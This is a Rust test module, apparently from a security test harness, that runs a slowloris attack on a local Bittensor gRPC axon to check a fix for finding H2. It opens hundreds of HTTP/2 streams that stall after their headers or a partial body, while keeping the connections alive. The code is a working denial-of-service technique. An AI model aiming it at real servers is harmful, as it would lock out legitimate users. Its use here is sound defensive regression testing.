//! Slowloris on the Release 1 gRPC axon (finding H2): streams that send their headers, or
//! headers and part of a body, and then nothing, while the attacker's HTTP/2 stack keeps
//! answering pings. Before the fix each such stream took one of the axon's 256 request permits
//! at header time and its body read had no deadline, so 300 stalled streams refused every
//! honest call for as long as the attacker kept them open.
//!
//! The attacker here opens its streams from several loopback addresses (127.0.0.2…), the
//! honest caller calls from 127.0.0.1 throughout, for longer than the axon's body timeout.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};

use bt_testnet::attack::{AttackRow, HonestLoad, ProcStatus};
use bytes::Bytes;

use super::target::EchoNeuron;

/// Source addresses the attacker uses, and stalled streams from each.
pub const ADDRESSES: u8 = 4;
pub const STREAMS_PER_ADDRESS: usize = 300;
/// Of each address's streams, these also send this much of a body that claims 16 MiB.
const PARTIAL_BODIES: usize = 20;
const PARTIAL_BYTES: usize = 1 << 20;
/// How long the attack is held: longer than the axon's default body timeout (10 s).
pub const HOLD: Duration = Duration::from_secs(14);

pub struct Report {
    pub row: AttackRow,
    /// Stalled streams the axon ended on its own (DEADLINE_EXCEEDED or RESOURCE_EXHAUSTED)
    /// while the attack was held.
    pub ended_by_axon: usize,
    pub streams: usize,
}

pub async fn run() -> Report {
    let neuron = EchoNeuron::start(&[]).await;
    let pid = neuron.pid();
    ProcStatus::reset_peak(pid);
    let before = ProcStatus::read(pid).unwrap();
    let honest = HonestLoad::start(Duration::from_millis(100), neuron.honest_caller());

    let mut sent = 0u64;
    let mut responses = Vec::new();
    let mut held = Vec::new();
    for a in 0..ADDRESSES {
        let from = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2 + a));
        // Streams spread over connections of at most 100 (the axon allows 128 per connection).
        for chunk in 0..STREAMS_PER_ADDRESS.div_ceil(100) {
            let n = (STREAMS_PER_ADDRESS - chunk * 100).min(100);
            let partial = if chunk == 0 { PARTIAL_BODIES } else { 0 };
            let (r, h, bytes) = stall(from, neuron.axon, n, partial).await;
            responses.extend(r);
            held.push(h);
            sent += bytes;
        }
    }
    let streams = responses.len();
    let started = Instant::now();
    // Each stalled stream's answer, if the axon gives one while the attack is held.
    let ended = tokio::time::timeout(
        HOLD,
        futures_util::future::join_all(responses.into_iter().map(|r| async move {
            match r.await {
                Ok(resp) => grpc_status(resp.headers()).is_some_and(|c| c == 4 || c == 8),
                Err(_) => false,
            }
        })),
    )
    .await;
    let ended_by_axon = match ended {
        Ok(v) => v.into_iter().filter(|e| *e).count(),
        Err(_) => 0,
    };
    if let Some(rest) = HOLD.checked_sub(started.elapsed()) {
        tokio::time::sleep(rest).await;
    }
    let served = honest.stop().await;
    let after = ProcStatus::read(pid).unwrap();
    drop(held);
    let row = AttackRow::new(
        format!(
            "gRPC slowloris: {streams} stalled streams from {ADDRESSES} addresses, held {}s",
            HOLD.as_secs()
        ),
        sent,
        &before,
        &after,
        served,
    )
    .outcome(format!(
        "{ended_by_axon} streams ended by the axon (deadline or per-address cap)"
    ));
    Report {
        row,
        ended_by_axon,
        streams,
    }
}

type Pending = h2::client::ResponseFuture;

/// Opens one connection from `from` with `n` streams that send headers (and `partial` of them
/// the first MiB of a body claiming 16 MiB) and then nothing. Returns the streams' response
/// futures, what must stay alive to keep them open, and the bytes written.
async fn stall(
    from: IpAddr,
    axon: SocketAddr,
    n: usize,
    partial: usize,
) -> (Vec<Pending>, Vec<h2::SendStream<Bytes>>, u64) {
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.bind(SocketAddr::new(from, 0)).unwrap();
    let tcp = socket.connect(axon).await.unwrap();
    let (client, connection) = h2::client::handshake(tcp).await.unwrap();
    // Driving the connection also answers the axon's keepalive pings, as a careful attacker's
    // stack would.
    tokio::spawn(connection);
    let mut client = client.ready().await.unwrap();
    let mut responses = Vec::with_capacity(n);
    let mut streams = Vec::with_capacity(n);
    let mut bytes = 0u64;
    for i in 0..n {
        let request = http::Request::builder()
            .method("POST")
            .uri(format!("http://{axon}/Bittensor/Forward"))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(())
            .unwrap();
        client = client.ready().await.unwrap();
        let (response, mut stream) = client.send_request(request, false).unwrap();
        bytes += 120;
        if i < partial {
            // The gRPC frame header claims 16 MiB; only the first MiB follows.
            let mut body = vec![0u8; 5 + PARTIAL_BYTES];
            body[1..5].copy_from_slice(&(16u32 << 20).to_be_bytes());
            stream.reserve_capacity(body.len());
            let _ = stream.send_data(Bytes::from(body), false);
            bytes += (5 + PARTIAL_BYTES) as u64;
        }
        responses.push(response);
        streams.push(stream);
    }
    (responses, streams, bytes)
}

fn grpc_status(headers: &http::HeaderMap) -> Option<u32> {
    headers.get("grpc-status")?.to_str().ok()?.parse().ok()
}
